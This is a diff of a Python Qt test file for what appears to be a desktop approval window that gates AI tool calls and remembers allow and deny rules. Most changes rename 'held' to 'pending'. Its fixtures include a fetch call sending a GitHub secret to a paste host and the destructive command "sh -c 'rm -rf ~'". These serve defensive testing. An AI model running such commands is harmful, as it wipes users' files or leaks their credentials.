@@ -42,9 +42,9 @@ async def press(harness: WindowHarness, name: str) -> None:
     QTest.mouseClick(await harness.armed(name), Qt.MouseButton.LeftButton)
 
 
-async def test_permanent_rule_for_everything_is_red_and_asks_for_confirmation(harness: WindowHarness) -> None:
+async def test_permanent_rule_for_all_tools_is_red_and_needs_a_confirmation(harness: WindowHarness) -> None:
     """Defect A1: it was the same blue button, and nothing warned."""
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, reach="all", clients=1, long=1)
     decision = harness.pending.call.decision
     assert harness.find(ALL).property("kind") == "danger"
@@ -75,7 +75,7 @@ async def test_permanent_rule_for_everything_is_red_and_asks_for_confirmation(ha
 
 async def test_confirmation_leaves_the_heading_in_view_in_a_small_window(harness: WindowHarness) -> None:
     harness.window.resize(900, 600)
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, reach="all", clients=1, long=1)
     call = harness.pending.call
     scope = call.decision.remember_choice.reaches["all"]
@@ -90,7 +90,7 @@ async def test_confirmation_of_a_leak_leaves_the_arguments_in_view_in_a_small_wi
     arguments = {"url": "https://paste.example/new", "text": "[secret github]\nb\nc\nd"}
     held = make_held(tool="fetch", arguments=arguments, leaks=("github",), warnings=("It has a secret.",))
     harness.window.resize(900, 600)
-    await harness.show(held=(held,))
+    await harness.show(pending=(held,))
     call = harness.pending.call
     decision = call.decision
     decision.reason.setText("No.")
@@ -110,12 +110,12 @@ async def test_confirmation_of_a_leak_leaves_the_arguments_in_view_in_a_small_wi
     assert decision.reason.isVisible() and decision.reason.text() == "No." and decision.remember_choice.isVisible()
     decision.press_once()
     await harness.show()
-    await until(lambda: decision.held is None)
+    await until(lambda: decision.pending is None)
     assert decision.gone.isVisible() and decision.gone.height() >= decision.gone.fontMetrics().height()
 
 
 async def test_cancel_keeps_the_call_pending_and_adds_no_rule(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, reach="all", clients=1, long=1)
     await press(harness, ALL)
     harness.press("Cancel")
@@ -143,7 +143,7 @@ WIDE: tuple[tuple[dict[str, Any], str], ...] = (
 async def test_wider_rule_is_labelled_and_red(harness: WindowHarness) -> None:
     confirm = harness.pending.call.decision.confirm
     for number, (wide, text) in enumerate(WIDE):
-        await harness.show(held=(danger(f"c{number}"),))
+        await harness.show(pending=(danger(f"c{number}"),))
         harness.pending.choose(f"c{number}")
         await choose(harness, **wide)
         assert harness.find(text).property("kind") == "danger"
@@ -163,7 +163,7 @@ async def test_wider_rule_is_labelled_and_red(harness: WindowHarness) -> None:
 
 
 async def test_narrowest_rule_until_quit_needs_one_click(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness)
     text = "Approve and remember"
     decision = harness.pending.call.decision
@@ -181,7 +181,7 @@ async def test_narrowest_rule_until_quit_needs_one_click(harness: WindowHarness)
 
 
 async def test_approval_key_follows_the_rule_choice_and_asks_for_confirmation(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, reach="all", clients=1, long=1)
     await harness.armed(ALL)
     harness.keys(Qt.Key.Key_Return, CTRL)
@@ -189,7 +189,7 @@ async def test_approval_key_follows_the_rule_choice_and_asks_for_confirmation(ha
 
 
 async def test_widening_the_rule_withdraws_the_confirmation_and_rearms(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, long=1)
     await press(harness, "Always allow this empty_folder call for Claude Desktop")
     assert harness.pending.call.decision.confirm.isVisible()
@@ -200,7 +200,7 @@ async def test_widening_the_rule_withdraws_the_confirmation_and_rearms(harness: 
 
 async def test_risks_and_confirmation_are_complete_in_a_low_window(harness: WindowHarness) -> None:
     harness.window.resize(900, 600)
-    await harness.show(held=(danger(warnings=("One.", "Two.", "Three.", "Four.")),))
+    await harness.show(pending=(danger(warnings=("One.", "Two.", "Three.", "Four.")),))
     await choose(harness, reach="all", clients=1, long=1)
     call = harness.pending.call
     decision, top = call.decision, call.top
@@ -221,7 +221,7 @@ async def test_risks_and_confirmation_are_complete_in_a_low_window(harness: Wind
 async def test_confirmation_names_a_tool_whose_name_its_button_shortens(harness: WindowHarness) -> None:
     name = "send_message_with_a_really_long_name_that_a_server_chose"
     harness.window.resize(900, 600)
-    await harness.show(held=(make_held(tool=name),))
+    await harness.show(pending=(make_held(tool=name),))
     await choose(harness, reach="tool", clients=1, long=1)
     decision = harness.pending.call.decision
     await until(decision.can_remember)
@@ -231,7 +231,7 @@ async def test_confirmation_names_a_tool_whose_name_its_button_shortens(harness:
 
 async def test_confirmation_also_names_a_secret_in_the_call(harness: WindowHarness) -> None:
     held = danger(leaks=("github-token",), digest="d" * 64)
-    await harness.show(held=(held,))
+    await harness.show(pending=(held,))
     await choose(harness, long=1)
     await press(harness, "Always allow this empty_folder call for Claude Desktop")
     text = harness.pending.call.decision.confirm.text_label.text()
@@ -242,7 +242,7 @@ async def test_confirmation_also_names_a_secret_in_the_call(harness: WindowHarne
 async def test_approve_and_deny_do_not_move(harness: WindowHarness, size: tuple[int, int]) -> None:
     harness.window.resize(*size)
     tool, server = "t" * 200, "文件服务器" * 40
-    await harness.show(held=(make_held("c1", tool, server=server),))
+    await harness.show(pending=(make_held("c1", tool, server=server),))
     decision = harness.pending.call.decision
     buttons = (decision.run_button, decision.deny_button)
 
@@ -271,7 +271,7 @@ async def test_approve_and_deny_do_not_move(harness: WindowHarness, size: tuple[
 
 
 async def test_narrowest_rule_needs_two_keys_and_no_delay(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await until(lambda: harness.pending.call.decision.remember_choice.is_known)  # on a busy machine it is armed before
     await harness.armed("Approve empty_folder")
     harness.keys(Qt.Key.Key_M, CTRL)
@@ -285,7 +285,7 @@ def command(text: str) -> PendingCall:
 
 
 async def test_permanent_rule_is_not_offered_for_unreadable_commands(harness: WindowHarness) -> None:
-    await harness.show(held=(command("sh -c 'rm -rf ~'"),))
+    await harness.show(pending=(command("sh -c 'rm -rf ~'"),))
     decision = harness.pending.call.decision
     await choose(harness, reach="tool", long=1)
     assert decision.remember_choice.reaches["similar"].isHidden(), "no program is proposed"
@@ -305,7 +305,7 @@ async def test_permanent_rule_is_not_offered_for_unreadable_commands(harness: Wi
 async def test_end_that_an_organization_forbids_is_refused_only_for_approvals(harness: WindowHarness) -> None:
     call, forbidden = command("ls"), AllowRulePolicy(kind="temporary").forbidden_ends()
     assert list(forbidden) == ["always"]
-    await harness.show(held=(call,), forbidden_ends=forbidden)
+    await harness.show(pending=(call,), forbidden_ends=forbidden)
     decision = harness.pending.call.decision
     await choose(harness, reach="call", long=1)
     await until(lambda: decision.run_button.isEnabled())
@@ -313,12 +313,12 @@ async def test_end_that_an_organization_forbids_is_refused_only_for_approvals(ha
     assert decision.note_label.text() == "Your organization requires that rules that allow calls have an end."
     harness.keys(Qt.Key.Key_Return, CTRL)
     assert harness.gate.orders == [] and not decision.confirm.isVisible()
-    await harness.show(held=(call,))
+    await harness.show(pending=(call,))
     await until(decision.allow_button.isEnabled)
 
 
 async def test_permanent_deny_rule_is_possible_for_unreadable_commands(harness: WindowHarness) -> None:
-    await harness.show(held=(command("sh -c x"),))
+    await harness.show(pending=(command("sh -c x"),))
     await choose(harness, reach="tool", long=1)
     harness.press("Deny and remember: Always deny run for Claude Desktop")
     harness.pending.answers.flush()
@@ -337,7 +337,7 @@ DENIED: tuple[tuple[dict[str, Any], str], ...] = (
 
 async def test_deny_says_that_it_adds_a_rule(harness: WindowHarness) -> None:
     for number, (wide, name) in enumerate(DENIED):
-        await harness.show(held=(danger(f"c{number}"),))
+        await harness.show(pending=(danger(f"c{number}"),))
         harness.pending.choose(f"c{number}")
         deny = harness.find("Deny")
         assert deny.text() == "Deny" and deny.toolTip() == "Ctrl+D"
@@ -370,7 +370,7 @@ DENIALS: dict[str, tuple[bool, Callable[[WindowHarness], None], bool]] = {
 
 async def test_keys_deny_like_the_buttons_that_they_stand_for(harness: WindowHarness) -> None:
     for name, (on, act, remembered) in DENIALS.items():
-        await harness.show(held=(danger(name),))
+        await harness.show(pending=(danger(name),))
         harness.pending.choose(name)
         if on:
             await choose(harness)
@@ -382,7 +382,7 @@ async def test_keys_deny_like_the_buttons_that_they_stand_for(harness: WindowHar
         harness.gate.orders.clear()
 
 
-async def test_middle_width_names_its_criterion(harness: WindowHarness) -> None:
+async def test_rule_of_middle_width_names_its_criterion(harness: WindowHarness) -> None:
     cases = (
         ("read", {"path": "/srv/notes/a.txt"}, "This folder: /srv/notes"),
         ("fetch", {"url": "https://example.com/a"}, "This host: example.com"),
@@ -390,14 +390,14 @@ async def test_middle_width_names_its_criterion(harness: WindowHarness) -> None:
         ("send", {"channel": "dev", "text": "Hello"}, "These values: channel dev"),
     )
     for tool, arguments, title in cases:
-        await harness.show(held=(make_held(tool, tool, arguments),))
+        await harness.show(pending=(make_held(tool, tool, arguments),))
         harness.pending.choose(tool)
         await choose(harness, reach="similar")
         assert harness.find(title).isChecked()
 
 
 async def test_next_call_starts_with_the_narrowest_width(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(), danger("c2")))
+    await harness.show(pending=(danger(), danger("c2")))
     await choose(harness, reach="all", clients=1, long=1)
     harness.pending.choose("c2")
     decision = harness.pending.call.decision
@@ -408,7 +408,7 @@ async def test_next_call_starts_with_the_narrowest_width(harness: WindowHarness)
 
 
 async def test_narrow_widths_use_edited_arguments(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness)
     harness.pending.call.begin_edit()
     editor = harness.pending.call.editor
@@ -421,7 +421,7 @@ async def test_narrow_widths_use_edited_arguments(harness: WindowHarness) -> Non
             and remember_choice.widths["call"].when[0].value == "/home/u/Documents/new"
         )
     )
-    held = harness.pending.call.decision.held
+    held = harness.pending.call.decision.pending
     allowed, denied = remember_choice.rule_request(held, "allow"), remember_choice.rule_request(held, "deny")
     assert allowed.when[0].value == "/home/u/Documents/new"
     assert denied.when[0].value == "/home/u/Documents/old", "what is denied is what the client sent"
@@ -435,7 +435,7 @@ async def test_narrow_widths_use_edited_arguments(harness: WindowHarness) -> Non
 
 
 async def test_call_after_an_edited_one_has_its_own_widths(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(), make_held("c2", "read", {"path": "/srv/a.txt"})))
+    await harness.show(pending=(danger(), make_held("c2", "read", {"path": "/srv/a.txt"})))
     harness.pending.call.begin_edit()
     harness.pending.call.editor.area.setPlainText('{"path": "/home/u/Documents/new"}')
     harness.pending.choose("c2")
@@ -444,7 +444,7 @@ async def test_call_after_an_edited_one_has_its_own_widths(harness: WindowHarnes
 
 
 async def test_each_width_shows_how_many_calls_it_would_have_covered(harness: WindowHarness) -> None:
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness)
     remember_choice = harness.pending.call.decision.remember_choice
     for reach, covered, denied, more, words in (
@@ -457,7 +457,7 @@ async def test_each_width_shows_how_many_calls_it_would_have_covered(harness: Wi
 
 async def test_scopes_and_arguments_share_a_small_window_without_scrolling(harness: WindowHarness) -> None:
     harness.window.resize(900, 600)
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     await choose(harness, reach="all", clients=1, long=1)
     call = harness.pending.call
     await until(lambda: call.decision.allow_button.isVisible() and call.top.verticalScrollBar().maximum() == 0)
@@ -470,7 +470,7 @@ async def test_scopes_and_arguments_share_a_small_window_without_scrolling(harne
 
 async def test_remembering_leaves_space_for_the_arguments(harness: WindowHarness) -> None:
     harness.window.resize(900, 600)
-    await harness.show(held=(danger(),))
+    await harness.show(pending=(danger(),))
     decision = harness.pending.call.decision
     choice = decision.remember_choice
     await until(lambda: decision.reason.y() > choice.geometry().bottom())
@@ -495,7 +495,7 @@ async def test_long_name_leaves_lines_of_the_arguments_in_a_small_window(harness
     harness.window.setMinimumHeight(0)
     harness.window.resize(900, 420)
     held = danger()
-    await harness.show(held=(replace(held, call=replace(held.call, tool="send_message_" * 8)),))
+    await harness.show(pending=(replace(held, call=replace(held.call, tool="send_message_" * 8)),))
     await choose(harness, reach="tool")
     call = harness.pending.call
     await until(call.decision.allow_button.isVisible)
@@ -505,7 +505,7 @@ async def test_long_name_leaves_lines_of_the_arguments_in_a_small_window(harness
 async def test_buttons_of_a_rule_are_in_one_row_if_names_stay_readable(harness: WindowHarness) -> None:
     harness.window.resize(1600, 900)
     held = danger()
-    await harness.show(held=(replace(held, call=replace(held.call, tool="send_message_" * 5)),))
+    await harness.show(pending=(replace(held, call=replace(held.call, tool="send_message_" * 5)),))
     await choose(harness, clients=1)
     decision = harness.pending.call.decision
     await until(lambda: decision.allow_button.isVisible())
@@ -520,7 +520,7 @@ async def test_buttons_of_a_rule_are_in_one_row_if_names_stay_readable(harness: 
 async def test_cancel_is_below_a_button_that_fills_the_question(harness: WindowHarness) -> None:
     harness.window.resize(900, 600)
     held = danger()
-    await harness.show(held=(replace(held, call=replace(held.call, tool="send_message_" * 8)),))
+    await harness.show(pending=(replace(held, call=replace(held.call, tool="send_message_" * 8)),))
     await choose(harness, clients=1, long=1)
     await until(lambda: harness.pending.call.decision.can_remember())
     harness.pending.call.decision.press_remembered()
